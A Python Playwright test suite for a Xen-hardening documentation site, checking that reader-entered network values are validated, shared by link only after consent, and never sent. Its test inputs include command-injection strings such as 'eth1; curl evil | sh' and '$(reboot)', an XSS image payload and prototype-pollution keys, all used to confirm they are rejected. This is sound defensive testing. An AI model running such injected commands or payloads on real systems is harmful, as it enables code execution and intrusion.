# SPDX-License-Identifier: MIT
"""The reader's values in commands and files: entered once, on all pages, and a link is never trusted by itself."""
from __future__ import annotations

import itertools
import re
import sys
from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import Page, expect

import reader_values
from tests.browser.conftest import Visitor
from tests.lab import topology

sys.path.insert(0, str(topology.EXAMPLES))
import check_values  # noqa: E402

PAGE = "scenarios/isolated-management-network.html"
OTHER_PAGE = "reference/xl-migration.html"
RULES = "isolated-management-network/firewall.nft"
MINE = {"management_network": "10.20.0.0/16", "management_interface": "bond0.7", "management_address": "10.20.0.5"}


def link(values: dict[str, str]) -> str:
    return f"#values:{urlencode(values)}"


def enter(page: Page, values: dict[str, str]) -> None:
    panel = page.locator("details.values")
    if panel.get_attribute("open") is None:
        panel.locator("summary").click()
    for name, text in values.items():
        page.locator(f"input[name={name}]").fill(text)


def shown(page: Page, name: str) -> set[str]:
    """What stands in the places of a parameter, its pattern for xend left out."""
    return set(page.locator(f"[data-parameter={name}]:not([data-form])").all_text_contents())


def reason(page: Page, name: str) -> str:
    return page.locator(f"#reason-{name}").inner_text().strip()


def examples(*names: str) -> list[set[str]]:
    return [{reader_values.all_parameters()[name]} for name in names]


def test_values_entered_once_are_on_all_pages_and_on_the_next_visit(visit):
    visitor = visit()
    page = visitor.open(PAGE)
    assert [shown(page, name) for name in MINE] == examples(*MINE)
    enter(page, MINE)
    assert [shown(page, name) for name in MINE] == [{text} for text in MINE.values()]
    assert shown(page, "admin_network") == {"198.51.100.0/24"}
    expect(page.locator("details.values summary")).to_have_text(re.compile(r"3 of \d+ on this page"))
    page.close()
    other = visitor.open(OTHER_PAGE)
    assert shown(other, "management_address") <= {"10.20.0.5"}
    for name in ("management_network", "management_interface"):
        assert shown(visitor.open(PAGE), name) == {MINE[name]}


def test_another_tab_of_the_browser_follows(visit):
    visitor = visit()
    page, other = visitor.open(PAGE), visitor.open(PAGE)
    enter(page, MINE)
    expect(other.locator("[data-parameter=management_interface]").first).to_have_text("bond0.7")


def test_what_commands_print_stays(visit):
    page = visit().open(PAGE)
    before = page.locator(".go").all_text_contents()
    enter(page, MINE)
    assert page.locator(".go").all_text_contents() == before
    assert any("192.168.1.1" in line for line in before)
    assert page.locator(".go .value").count() == 0


def test_patterns_of_xend_follow_the_network(visit):
    page = visit().open(PAGE)
    enter(page, {"management_network": "10.20.30.64/30"})
    assert r"'^10\\.20\\.30\\.(64|65|66|67)$'" in page.locator("article").text_content()
    for value in ("10.0.0.0/16", "10.1.0.0/17", "192.168.1.0/24", "192.0.2.128/25", "192.0.2.7/32", "192.0.2.7"):
        assert page.evaluate("text => pattern(text)", value) == reader_values.pattern(value)


def test_halves_follow_the_addresses_of_ipv6(visit):
    page = visit().open("scenarios/subnet-behind-a-firewall.html")
    enter(page, {"node_a_address6": "2001:db8:7::a:b"})
    assert "reserved_half6 = { 0xa000b, 0x2, 0xfe }" in page.locator("article").text_content()
    for value in ("::1", "2001:db8::f00:0:0:1", "fe80::1:ffff:ffff:ffff", "2001:db8:1::"):
        assert page.evaluate("text => half(text)", value) == reader_values.half(value)


def test_one_click_brings_the_guides_values_back(visit):
    visitor = visit()
    page = visitor.open(PAGE)
    enter(page, MINE)
    page.get_by_role("button", name="Back to the values of this guide").click()
    assert [shown(page, name) for name in MINE] == examples(*MINE)
    assert [shown(visitor.open(PAGE), name) for name in MINE] == examples(*MINE)


@pytest.mark.parametrize(("name", "text", "words"), [
    ("management_network", "my network", "is not a network; one such as 192.168.1.0/24 is expected"),
    ("management_network", "192.168.1.1/24", "host bits are set: did you mean 192.168.1.0/24?"),
    ("management_network", "10.0.0.0/8", "that admits 16,777,216 addresses"),
    ("management_network", "192.168.1.0", "no prefix length: write 192.168.1.0/32 for this one address"),
    ("management_network", "2001:db8::/64", "this is IPv6; an IPv4 network is expected, such as 192.168.1.0/24"),
    ("management_network6", "2001:db8::1/64", "host bits are set: did you mean 2001:db8::/64?"),
    ("management_network6", "2001:db8::/32", "that admits 4,294,967,296 networks of /64"),
    ("management_address", "192.168.1.256", '"192.168.1.256" is not an IPv4 address'),
    ("management_address", "0.0.0.0", "0.0.0.0 is not the address of one host"),
    ("management_interface", "eth0;reboot", '"eth0;reboot" is not the name of an interface'),
    ("relocation_port", "70000", '"70000" is not a port; a number from 1 to 65535 is expected'),
    ("relocation_port", "22", "port 22 is that of ssh: the rules would lock you out"),
])
def test_a_bad_value_gets_its_reason_and_is_not_used(visit, name: str, text: str, words: str):
    page = visit().open(PAGE)
    enter(page, {name: text})
    assert words in reason(page, name)
    assert page.locator(f"input[name={name}]").get_attribute("aria-invalid") == "true"
    assert shown(page, name) == examples(name)[0]
    assert page.evaluate("localStorage.getItem('securing-xen-values')") == "{}"
    enter(page, {name: reader_values.all_parameters()[name]})
    assert reason(page, name) == ""


def test_an_address_outside_of_its_network_is_pointed_out(visit):
    page = visit().open(PAGE)
    enter(page, {"management_network": "10.20.0.0/16"})
    assert "192.168.1.1 is not in 10.20.0.0/16" in reason(page, "management_address")
    enter(page, {"management_address": "10.20.255.5"})
    assert reason(page, "management_address") == ""
    assert reason(page, "management_address6") == ""


ODD = ["", " ", "0", "-1", "1e3", "0x50", "08", "1.2.3", "1.2.3.4", "01.2.3.4", "1.2.3.4/", "1.2.3.4/32", "1.2.3.4/33",
       "1.2.3.4/032", "1.2.3.0/24/24", "1.2.3.4/255.255.255.255", "::", "::1", "1::", "1::2::3", "1:2:3:4:5:6:7:8",
       "1::/64", "1:2:3:4:5:6:7:8:9", "::ffff:1.2.3.4", "fe80::1%eth0", "2001:db8::/47", "2001:db8::/129", "g::",
       "12345::", "::/48", "1:2:3:4::5:6:7:8", "1::8/128", "lo", "eth0", "-eth0", "eth0 ", "a/b", "..", "a..b", "éth0",
       "a" * 15, "a" * 16, "eth0\n", "$(reboot)", "`reboot`", "\u2028", "１.2.3.4", "1.2.3.4\u0000", "22", "65535",
       "65536", "8002-8004", "*", "vif+", "<b>x</b>", "0.0.0.0/0", "10.0.0.0/15", "10.0.0.0/16", "224.0.0.1",
       "255.255.255.255"]


def test_what_the_page_takes_the_program_takes_too(visit, monkeypatch):
    """Of many odd texts, and for each kind of value."""
    monkeypatch.setattr(check_values, "interface", lambda text: re.fullmatch(r"[A-Za-z0-9_.:@-]{1,15}", text)
                        or pytest.fail(text))
    page = visit().open(PAGE)
    taken = set()
    for kind, text in itertools.product(("network", "network6", "address", "address6", "interface", "port"), ODD):
        if page.evaluate("([name, text]) => check(name, text)", [f"a_{kind}", text]) == "":
            check_values.check(f"a_{kind}", text)
            taken.add(kind)
    assert len(taken) == 6


def test_a_network_is_written_as_python_writes_it(visit):
    page = visit().open(PAGE)
    for text in ("2001:db8:0:1:1:1:1:1/63", "2001:db8::1:0:0:1/64", "1:0:0:2::1/64", "::1/64", "1:2:3:4:5:6:7:8/124",
                 "0:0:1::1/48"):
        said = page.evaluate("text => check('a_network6', text)", text)
        written = re.search(r"did you mean (.*)\?", said)[1]
        assert check_values.network(written, 6)
        assert check_values.ipaddress.ip_network(text, strict=False) == check_values.network(written, 6)


# Links


def warned(page: Page) -> int:
    return page.locator("p.from-a-link").count()


def test_a_link_brings_values_that_wait_to_be_accepted(visit):
    visitor = visit()
    page = visitor.open(PAGE + link(MINE))
    assert shown(page, "management_network") == {"10.20.0.0/16"}
    blocks = page.locator("article [class*='highlight-']:has(.value.linked)")
    assert blocks.count() > 5
    for block in blocks.all():
        assert block.evaluate("block => block.previousElementSibling.matches('p.from-a-link')")
    expect(page.get_by_role("alert")).to_contain_text("management_network: 10.20.0.0/16")
    assert [shown(visitor.open(PAGE), name) for name in MINE] == examples(*MINE), "kept without being accepted"
    page.get_by_role("button", name="Accept them").click()
    assert warned(page) == 0
    assert page.url == visitor.site + PAGE
    assert [shown(visitor.open(PAGE), name) for name in MINE] == [{text} for text in MINE.values()]


def test_a_link_can_be_refused(visit):
    page = visit().open(PAGE)
    enter(page, {"management_interface": "mine0"})
    page.goto(page.url + link(MINE))
    assert shown(page, "management_interface") == {"bond0.7"}
    page.get_by_role("button", name="Back to what was here before").click()
    assert warned(page) == 0
    assert [shown(page, name) for name in MINE] == [*examples("management_network"), {"mine0"},
                                                   *examples("management_address")]


def test_what_does_not_fit_is_dropped_from_a_link_and_said(visit):
    attack = "<img src=x onerror=alert(1)>"
    page = visit().open(PAGE + link({"management_interface": "eth1; curl evil | sh", "admin_network": "0.0.0.0/0",
                                     "__proto__": "x", attack: attack, "management_address": "10.20.0.5"}))
    said = page.get_by_role("alert").inner_text()
    assert '"eth1; curl evil | sh" is not the name of an interface' in said
    assert "that admits 4,294,967,296 addresses" in said
    assert said.count("no value of this guide has this name") == 2
    assert shown(page, "management_interface") == {"eth1"} and shown(page, "admin_network") == {"198.51.100.0/24"}
    assert shown(page, "management_address") == {"10.20.0.5"}
    assert page.locator("img[src=x]").count() == 0


@pytest.mark.parametrize("fragment", ["#values:", "#values:%E0%A4%A", "#values:&&==", "#values:constructor=1"])
def test_a_broken_link_changes_nothing(visit, fragment: str):
    page = visit().open(PAGE + fragment)
    assert [shown(page, name) for name in MINE] == examples(*MINE)
    assert warned(page) == 0


@pytest.mark.parametrize("stored", ["null", "[]", "no JSON", '{"management_interface": "a b"}',
                                    '{"relocation_port": 5}', '{"__proto__": "x", "toString": "x"}'])
def test_what_is_kept_is_checked_again(visit, stored: str):
    visitor = visit()
    visitor.open().evaluate("text => localStorage.setItem('securing-xen-values', text)", stored)
    page = visitor.open(PAGE)
    assert [shown(page, name) for name in [*MINE, "relocation_port"]] == examples(*MINE, "relocation_port")


def test_the_copied_link_brings_the_values_to_somebody_else(visit):
    visitor = visit(permissions=["clipboard-read", "clipboard-write"])
    page = visitor.open(PAGE)
    enter(page, MINE)
    page.get_by_role("button", name="Copy a link").click()
    expect(page.locator(".values-said")).to_contain_text("Copied")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied == visitor.site + PAGE + "#values:" + urlencode(MINE, quote_via=quote, safe="")
    assert all("10.20" not in request for request in visitor.requests)
    other = visit().open(copied.removeprefix(visitor.site))
    assert shown(other, "management_interface") == {"bond0.7"} and warned(other) > 0


def test_values_are_never_sent(visit):
    visitor = visit()
    page = visitor.open(PAGE + link(MINE))
    page.get_by_role("button", name="Accept them").click()
    page.locator("a.sidebar-brand").first.click()
    page.wait_for_url("**/index.html")
    assert [request for request in visitor.requests if "10.20" in request.partition("#")[0] or "bond0" in
            request.partition("#")[0]] == []


def test_the_page_is_complete_without_scripts(visit):
    visitor: Visitor = visit(java_script_enabled=False)
    page = visitor.open(PAGE + link(MINE))
    assert not page.locator("details.values").is_visible()
    assert "define management_network = 192.168.1.0/24" in page.locator("article").inner_text()
